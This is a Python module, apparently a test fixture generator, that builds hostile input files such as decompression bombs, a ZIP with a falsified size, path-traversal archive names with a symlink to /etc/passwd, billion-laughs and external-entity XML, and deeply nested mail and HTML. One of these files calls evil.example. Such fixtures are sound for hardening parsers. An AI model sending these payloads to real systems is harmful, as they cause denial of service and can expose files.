"""Files made to hurt: small to send, endless to read."""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

MANY = 100_000
SIDE = 10_000
DEEP = 3_000


def picture() -> bytes:
    """Return a PNG of 10 000 × 10 000 points: 12 kB to send, 400 MB once decoded."""
    rows = zlib.compress(b"\x00" * (SIDE * (SIDE // 8 + 1)), 9)
    head = struct.pack(">IIBBBBB", SIDE, SIDE, 1, 0, 0, 0, 0)
    parts = ((b"IHDR", head), (b"IDAT", rows), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in parts
    )


def packed(files: Mapping[str, bytes], level: int = 9) -> bytes:
    """Return a ZIP of files."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return written.getvalue()


def zeros() -> bytes:
    """Return a ZIP that says truly how large it is: 100 MB of zeros."""
    return packed({"zeros.csv": b"0" * 100 * 2**20}, 6)


def liar() -> bytes:
    """Return the same, which says that it holds ten bytes."""
    content = bytearray(zeros())
    at = content.rfind(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(content)


def nested() -> bytes:
    """Return archives in archives in archives, sixteen at each level, as 42.zip is made."""
    content = packed({"a.csv": b"a,b\n" * 100_000})
    for _ in range(6):
        content = packed({f"{n}.zip": content for n in range(4)})
    return content


def crowded() -> bytes:
    """Return a ZIP of a hundred thousand empty files."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_STORED) as archive:
        for n in range(MANY):
            archive.writestr(f"{n}.csv", b"")
    return written.getvalue()


def escaping() -> bytes:
    """Return a ZIP whose names lead out of the folder, one of them a link."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        for name in ("../../escaped.csv", "/tmp/escaped.csv", "..\\escaped.csv", "C:\\escaped.csv"):  # noqa: S108  (nothing is written there: that is the point)
            archive.writestr(name, "a,b\n1,2\n")
        link = zipfile.ZipInfo("passwords.csv")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return written.getvalue()


def locked() -> bytes:
    """Return a ZIP that says it is encrypted."""
    content = bytearray(packed({"a.csv": b"a,b\n1,2\n"}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.find(mark) + offset] |= 1
    return bytes(content)


def entities(kind: str) -> bytes:
    """Return an OFX or HTML document of a thousand million laughs."""
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    doctype = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{lines}]>'
    outside = '<!DOCTYPE y SYSTEM "file:///etc/passwd">'
    if kind == "html":
        return f"{doctype}{outside}<html><body>&l9;</body></html>".encode()
    inside = "<BANKMSGSRSV1><STMTTRNRS><STMTRS><CURDEF>&l9;</CURDEF></STMTRS></STMTTRNRS>"
    return f'{doctype}<?OFX OFXHEADER="200"?><OFX>{inside}</BANKMSGSRSV1></OFX>'.encode()


def endless_calendar() -> bytes:
    """Return a calendar whose one event comes back every second, for ever."""
    rules = "".join(f"RRULE:FREQ=SECONDLY;INTERVAL={n}\r\n" for n in range(1, 20))
    return (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\nBEGIN:VEVENT\r\nUID:1\r\n"
        f"DTSTART:20200101T000000Z\r\nDTEND:20200101T000001Z\r\n{rules}SUMMARY:x\r\n"
        "ATTENDEE:mailto:a@lambda.example\r\nEND:VEVENT\r\n"
        + "BEGIN:VEVENT\r\n" * DEEP
        + "END:VCALENDAR\r\n"
    ).encode()


_FROM = b"From x@x.example Thu Apr  2 10:00:00 2026\n"
_HEAD = (
    b"From: Ada <ada@lambda.example>\nTo: camille@roy.example\nSubject: x\n"
    b"Date: Thu, 2 Apr 2026 10:00:00 +0200\nMessage-ID: <1@lambda.example>\nMIME-Version: 1.0\n"
)


def deep_mail() -> bytes:
    """Return a mail of parts in parts in parts."""
    opening = b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(DEEP)
    )
    return _FROM + _HEAD + opening + b"Content-Type: text/plain\n\nend\n"


def deep_page() -> bytes:
    """Return a mail whose HTML is nested without end, with a picture that is asked for."""
    inside = b"<div><table><tr><td>" * 20_000 + b"<img src=http://evil.example/x.png>"
    return _FROM + _HEAD + b"Content-Type: text/html\n\n" + inside + b"\n"


def mail_with_picture() -> bytes:
    """Return a mail with the great picture, as an attachment and inside its HTML."""
    import base64  # noqa: PLC0415  (only here)

    coded = base64.encodebytes(picture())
    inline = base64.b64encode(picture())
    return (
        _FROM
        + _HEAD
        + b"Content-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n"
        + b'<p>Bonjour</p><img width=10000 height=10000 src="data:image/png;base64,'
        + inline
        + b'">\n--b\nContent-Type: image/png\nContent-Transfer-Encoding: base64\n'
        + b"Content-Disposition: attachment; filename=x.png\n\n"
        + coded
        + b"--b--\n"
    )


def deep_brackets() -> bytes:
    """Return JSON and a table that are nothing but brackets and quotes."""
    return b'"' * 200_000 + b"[" * 200_000


def all_of_them() -> Mapping[str, bytes]:
    """Return every bomb, by the name it is sent under."""
    return {
        "great.png": picture(),
        "great-picture.mbox": mail_with_picture(),
        "zeros.zip": zeros(),
        "liar.zip": liar(),
        "zz-nested.zip": nested(),
        "crowded.zip": crowded(),
        "escaping.zip": escaping(),
        "locked.zip": locked(),
        "broken.zip": b"PK\x03\x04" + b"\xff" * 5000,
        "laughs.ofx": entities("ofx"),
        "laughs.html": entities("html"),
        "laughs.ics": entities("html"),
        "endless.ics": endless_calendar(),
        "deep.mbox": deep_mail(),
        "deep-page.mbox": deep_page(),
        "zeros.csv.gz": gzip.compress(b"0" * 100 * 2**20, 6),
        "brackets.csv": deep_brackets(),
        "long-line.csv": b"a,b\n" + b"x" * 8 * 2**20,
        "nul.csv": b"\x00" * 2**20,
        "empty.csv": b"",
        "empty.mbox": b"",
    }
